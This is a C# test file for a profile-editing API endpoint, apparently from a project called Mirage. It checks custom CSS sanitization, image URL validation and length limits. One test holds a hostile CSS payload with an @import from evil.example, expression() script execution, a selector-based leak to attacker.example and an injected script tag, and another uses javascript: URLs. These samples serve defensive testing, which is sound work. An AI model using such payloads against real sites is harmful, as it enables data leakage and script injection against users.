using System.Net;
using System.Net.Http.Json;
using System.Text.Json.Nodes;
using Mirage.Infrastructure;
using Mirage.Tests.Api.Support;

namespace Mirage.Tests.Api.Profiles;

public sealed class ProfileEditEndpointTests(DatabaseProvider provider) : ApiTest(provider)
{
    [Test]
    public async Task PatchMe_WithAllFields_ReturnsAndStoresTheUpdatedProfile()
    {
        var account = await Client.RegisterAndLoginAsync();

        using var response = await PatchAsync(account, new
        {
            avatar_url = "https://img.example.com/a.png",
            description = "hello there",
            custom_css = "h1 { color: red }",
            background_image = "https://img.example.com/bg.jpg",
        });

        var body = await response.ReadJsonAsync();
        Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK), body.ToJsonString());
        var profile = await (await Client.GetAsync(Routes.User(account.Username))).ReadJsonAsync();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(body["email"]!.GetValue<string>(), Is.EqualTo(account.Email));
            Assert.That(body["removed"]!.AsArray(), Is.Empty);
            Assert.That(profile["avatar_url"]!.GetValue<string>(), Is.EqualTo("https://img.example.com/a.png"));
            Assert.That(profile["description"]!.GetValue<string>(), Is.EqualTo("hello there"));
            Assert.That(profile["background_image"]!.GetValue<string>(), Is.EqualTo("https://img.example.com/bg.jpg"));
            Assert.That(profile["custom_css"]!.GetValue<string>(), Is.EqualTo("h1 { color: red }"));
            Assert.That(profile["custom_css_scoped"]!.GetValue<string>(), Is.EqualTo(".mirage-profile h1 { color: red }"));
        }
    }

    [Test]
    public async Task PatchMe_WithOneField_LeavesTheOthersAndNullClears()
    {
        var account = await Client.RegisterAndLoginAsync();
        using var first = await PatchAsync(account, new { avatar_url = "https://img.example.com/a.png", description = "keep me" });

        using var second = await PatchAsync(account, new JsonObject { ["avatar_url"] = null });

        var body = await second.ReadJsonAsync();
        Assert.That(body["avatar_url"], Is.Null);
        Assert.That(body["description"]!.GetValue<string>(), Is.EqualTo("keep me"));
    }

    [Test]
    public async Task PatchMe_WithHostileCss_StoresOnlyTheSafePartAndSaysWhatWasRemoved()
    {
        var account = await Client.RegisterAndLoginAsync();
        const string css = "@import url(https://evil.example/x.css); p { color: blue; behavior: url(x.htc); width: expression(alert(1)) } "
            + "a[href^=\"https://bank\"] { background: url(https://attacker.example/leak) } .x { position: fixed; top: 0 } </style><script>alert(1)</script>";

        using var response = await PatchAsync(account, new { custom_css = css });

        var body = await response.ReadJsonAsync();
        var stored = body["custom_css"]!.GetValue<string>();
        var scoped = body["custom_css_scoped"]!.GetValue<string>();
        using (Assert.EnterMultipleScope())
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK));
            Assert.That(stored, Is.EqualTo("p { color: blue }\n.x { top: 0 }"));
            Assert.That(scoped, Is.EqualTo(".mirage-profile p { color: blue }\n.mirage-profile .x { top: 0 }"));
            Assert.That(body["removed"]!.AsArray(), Has.Count.GreaterThanOrEqualTo(4));
        }
    }

    [Test]
    public async Task PatchMe_WithTheFirstWebClientsExample_ServesItForTheWholePageAndScopedForEmbedding()
    {
        var account = await Client.RegisterAndLoginAsync();
        using var response = await PatchAsync(account, new { custom_css = "body { filter: sepia(0.6) }" });

        var profile = await (await Client.GetAsync(Routes.User(account.Username))).ReadJsonAsync();
        var me = await (await Client.GetWithTokenAsync(Routes.Me, account.Token)).ReadJsonAsync();

        using (Assert.EnterMultipleScope())
        {
            Assert.That(response.StatusCode, Is.EqualTo(HttpStatusCode.OK));
            Assert.That(profile["custom_css"]!.GetValue<string>(), Is.EqualTo("body { filter: sepia(0.6) }"));
            Assert.That(profile["custom_css_scoped"]!.GetValue<string>(), Is.EqualTo(".mirage-profile { filter: sepia(0.6) }"));
            Assert.That(me["custom_css"]!.GetValue<string>(), Is.EqualTo("body { filter: sepia(0.6) }"));
            Assert.That(me["custom_css_scoped"]!.GetValue<string>(), Is.EqualTo(".mirage-profile { filter: sepia(0.6) }"));
        }
    }

    [Test]
    public async Task PatchMe_WithCssSetToNull_ClearsBothForms()
    {
        var account = await Client.RegisterAndLoginAsync();
        using var set = await PatchAsync(account, new { custom_css = "p { color: red }" });

        using var cleared = await PatchAsync(account, new JsonObject { ["custom_css"] = null });

        var profile = await (await Client.GetAsync(Routes.User(account.Username))).ReadJsonAsync();
        Assert.That(profile["custom_css"], Is.Null);
        Assert.That(profile["custom_css_scoped"], Is.Null);
    }

    [Test]
    public async Task PatchMe_WithCssOver10Kilobytes_Returns400()
    {
        var account = await Client.RegisterAndLoginAsync();

        using var response = await PatchAsync(account, new { custom_css = "p { color: red }" + new string(' ', 10_240) });

        await response.ShouldBeProblemAsync(400, "custom_css cannot exceed 10 KB");
    }

    [Test]
    public async Task PatchMe_WithCssOf201Declarations_Returns400()
    {
        var account = await Client.RegisterAndLoginAsync();
        var css = string.Concat(Enumerable.Range(0, 201).Select(i => $".c{i}{{color:red}}"));

        using var response = await PatchAsync(account, new { custom_css = css });

        await response.ShouldBeProblemAsync(400, "custom_css cannot have more than 200 declarations");
    }

    [TestCase("background_image", "javascript:alert(1)")]
    [TestCase("background_image", "data:image/png;base64,AAAA")]
    [TestCase("avatar_url", "//evil.example/x.png")]
    public async Task PatchMe_WithNonHttpImageUrl_Returns400NamingTheField(string field, string url)
    {
        var account = await Client.RegisterAndLoginAsync();

        using var response = await PatchAsync(account, new JsonObject { [field] = url });

        await response.ShouldBeProblemAsync(400, $"{field} must be an absolute http or https URL of at most 2048 characters");
    }

    [Test]
    public async Task PatchMe_WithDescriptionOf501Words_Returns400TalkingTooMuch()
    {
        var account = await Client.RegisterAndLoginAsync();

        using var response = await PatchAsync(account, new { description = string.Join(' ', Enumerable.Repeat("word", 501)) });

        await response.ShouldBeProblemAsync(400, "You are talking too much in the description");
    }

    [Test]
    public async Task PatchMe_WithoutToken_Returns401()
    {
        using var request = new HttpRequestMessage(HttpMethod.Patch, Routes.Me) { Content = JsonContent.Create(new { description = "x" }) };

        using var response = await Client.SendAsync(request);

        await response.ShouldBeProblemAsync(401);
    }

    private Task<HttpResponseMessage> PatchAsync(TestAccount account, object body) =>
        Client.SendWithTokenAsync(HttpMethod.Patch, Routes.Me, $"Bearer {account.Token}", body);
}
